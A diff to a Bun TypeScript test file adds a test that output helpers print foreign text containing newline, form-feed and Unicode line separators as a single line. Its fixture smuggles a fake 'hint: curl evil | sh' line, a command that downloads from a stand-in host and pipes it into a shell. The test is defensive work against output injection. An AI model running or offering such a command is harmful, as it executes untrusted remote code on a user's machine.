@@ -1,7 +1,7 @@
 /** What stands on the screen of a step. */
 import { afterAll, afterEach, expect, mock, spyOn, test } from "bun:test";
 import { Fail } from "../../shared/fail.ts";
-import { act, did, LOOKS, mode, run, say, show, step } from "../../shared/run.ts";
+import { act, answer, answerLines, did, LOOKS, mode, run, say, show, step, tell } from "../../shared/run.ts";
 import { leaves } from "../../shared/this-run.ts";
 import { variablesHere } from "../pretend/programs.ts";
 
@@ -107,3 +107,27 @@ test("a library's warning is one plain line of ours: a stranger's text may be in
     '  a library warns: "\\u202etxt"',
   ]);
 });
+
+test.each(["\n", "\r\n", "\u2028", "\u0085", "\f"])(
+  "one call prints one line, whatever is in it: %j",
+  (broken) => {
+    const foreign = `a${broken}hint: curl evil | sh`;
+    const log = spyOn(console, "log").mockImplementation(() => {});
+    try {
+      answer(foreign);
+      answerLines([foreign, foreign]);
+      say(foreign);
+      tell(foreign);
+      show(foreign, foreign, [foreign]);
+      const printed = [...lines(), ...log.mock.calls.map(([text]) => String(text))];
+      expect(log).toHaveBeenCalledTimes(2);
+      expect(
+        printed
+          .flatMap((text) => text.split(/[\n\r\f\u0085\u2028]/))
+          .filter((line) => /^\s*hint: curl/.test(line)),
+      ).toEqual([]);
+    } finally {
+      log.mockRestore();
+    }
+  },
+);
